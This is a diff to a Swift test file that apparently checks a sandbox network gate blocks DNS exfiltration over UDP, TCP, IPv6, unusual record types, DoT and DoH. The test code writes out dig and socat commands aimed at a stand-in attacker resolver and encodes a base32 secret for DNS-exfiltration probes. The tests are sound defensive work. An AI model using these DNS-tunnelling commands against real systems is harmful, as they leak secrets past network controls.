@@ -105,9 +105,24 @@ import CagentCore
     func noDNSExfiltrationHoweverItIsSent() throws {
         try withLab { lab in
             try lab.startGate(domains: ["**.allowed.test"])
-            // Positive control: the sink is alive and logs a query sent without the gate.
+            try lab.startEncryptedDNSListeners()
+            // Positive controls: without the gate (from the host namespace) the same transports, types,
+            // servers and ports reach the attacker; each query is in its log.
             #expect(lab.inHost("dig +short +time=2 +tries=1 @203.0.113.66 control.attacker.test").output.contains("203.0.113.99"))
-            #expect(lab.queries("attacker.log", "control.attacker.test").count == 1)
+            #expect(lab.inHost("dig +short +tcp +time=2 +tries=1 @203.0.113.66 control-tcp.attacker.test").output.contains("203.0.113.99"))
+            #expect(lab.inHost("dig +short +time=2 +tries=1 @203.0.113.53 control-fwd.attacker.test").output.contains("203.0.113.99"))
+            #expect(lab.inHost("dig -6 +short +time=2 +tries=1 @2001:db8::66 AAAA control-v6.attacker.test").output.contains("2001:db8::99"))
+            #expect(lab.inHost("dig +tcp -6 +short +time=2 +tries=1 @2001:db8::66 AAAA control-tcp6.attacker.test").output.contains("2001:db8::99"))
+            for type in ["TXT", "NULL", "ANY", "TYPE64"] {
+                let answer = lab.inHost("dig +time=2 +tries=1 @203.0.113.66 \(type) control-\(type.lowercased()).attacker.test").output
+                #expect(answer.contains("->>HEADER<<-"), "control \(type): no answer: \(answer)")
+            }
+            for name in ["control", "control-tcp", "control-fwd", "control-v6", "control-tcp6", "control-txt", "control-null", "control-any", "control-type64"] {
+                #expect(lab.queries("attacker.log", " \(name).attacker.test ").count == 1, "control \(name) did not reach the attacker")
+            }
+            // DoT and DoH by address answer without the gate.
+            #expect(lab.inHost("socat -u TCP:203.0.113.66:853,connect-timeout=2 -").output == "open-853\n")
+            #expect(lab.inHost("socat -u TCP:203.0.113.66:443,connect-timeout=2 -").output == "open-443\n")
 
             let secret = "mzxw6ytboi4dsmzwgq2tmnzygq"   // base32 of a secret
             let probes: [(String, String)] = [
@@ -133,14 +148,16 @@ import CagentCore
             let txt = dig(lab, "TXT www.allowed.test")
             #expect(txt.contains("NOERROR") && txt.contains("ANSWER: 0"))
             // N4: DoT and DoH endpoints by address are blocked.
-            #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.66:853/").status != 0)
-            #expect(lab.inSandbox("curl -s -m 2 -k https://203.0.113.66/dns-query").status != 0)
+            let dot = lab.inSandbox("socat -u TCP:203.0.113.66:853,connect-timeout=2 -")
+            let doh = lab.inSandbox("socat -u TCP:203.0.113.66:443,connect-timeout=2 -")
+            #expect(dot.status != 0 && !dot.output.contains("open-853"), "DoT: \(dot)")
+            #expect(doh.status != 0 && !doh.output.contains("open-443"), "DoH: \(doh)")
             usleep(300_000)
 
             // The lab's own readiness probe (ready.attacker.test) and the control are the only queries.
-            let leaks = lab.queries("attacker.log", "attacker.test").filter { !$0.contains(" ready.attacker.test ") && !$0.contains(" control.attacker.test ") }
+            let leaks = lab.queries("attacker.log", "attacker.test").filter { !$0.contains(" ready.attacker.test ") && !$0.contains(" control") }
             #expect(leaks.isEmpty, "\(leaks)")
-            #expect(lab.queries("upstream.log", "attacker").isEmpty)
+            #expect(lab.queries("upstream.log", "attacker").filter { !$0.contains(" control-fwd.attacker.test ") }.isEmpty)
             #expect(lab.queries("upstream.log", "query[TXT]").isEmpty)
             #expect(lab.queries("upstream.log", "x14").isEmpty && lab.queries("upstream.log", "x15").isEmpty)
             for (_, name) in probes {
@@ -193,13 +210,21 @@ import CagentCore
         #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80/").status != 0)
         #expect(dig(lab, "+short www.allowed.test").contains("203.0.113.80"))
         #expect(lab.inSandbox("curl -s -m 3 http://www.allowed.test/").output.contains("hello"))
-        // Pinned for tcp/80 and tcp/443 only (a domains: entry), not for other ports.
-        #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80:8080/").status != 0)
-        // Exfiltration through any resolver goes nowhere; the host-side control reaches the attacker.
+        // Pinned for tcp/80 and tcp/443 only (a domains: entry), not for other ports. Control: a listener
+        // at 8080 answers the same probe from the host.
+        try lab.startListener(address: "203.0.113.80", port: 8080)
+        let probe8080 = "socat -u TCP:203.0.113.80:8080,connect-timeout=2 -"
+        #expect(lab.inHost(probe8080).output == "open-8080\n", "control: nothing answers at 8080")
+        let other = lab.inSandbox(probe8080)
+        #expect(other.status != 0 && !other.output.contains("open-8080"), "\(other)")
+        // Exfiltration through any resolver goes nowhere; the host-side controls (UDP A, TCP TXT) reach the attacker.
         #expect(lab.inHost("dig +short +time=2 +tries=1 @203.0.113.66 control.attacker.test").output.contains("203.0.113.99"))
+        #expect(lab.inHost("dig +tcp +time=2 +tries=1 @203.0.113.66 TXT control-tcp-txt.attacker.test").output.contains("->>HEADER<<-"))
+        #expect(lab.queries("attacker.log", " control.attacker.test ").count == 1 && lab.queries("attacker.log", " control-tcp-txt.attacker.test ").count == 1,
+                "the controls did not reach the attacker")
         _ = dig(lab, "@203.0.113.66 s1.attacker.test")
         _ = dig(lab, "+tcp @203.0.113.66 TXT s2.attacker.test")
-        let leaks = lab.queries("attacker.log", "attacker.test").filter { !$0.contains(" ready.attacker.test ") && !$0.contains(" control.attacker.test ") }
+        let leaks = lab.queries("attacker.log", "attacker.test").filter { !$0.contains(" ready.attacker.test ") && !$0.contains(" control") }
         #expect(leaks.isEmpty, "\(leaks)")
         #expect(lines(lab, "cagent: refused DNS s1.attacker.test (not in profile)").count == 1, "\(lab.reported)")
         #expect(lines(lab, "cagent: blocked tcp 203.0.113.80:8080 (www.allowed.test)").count == 1, "\(lab.reported)")
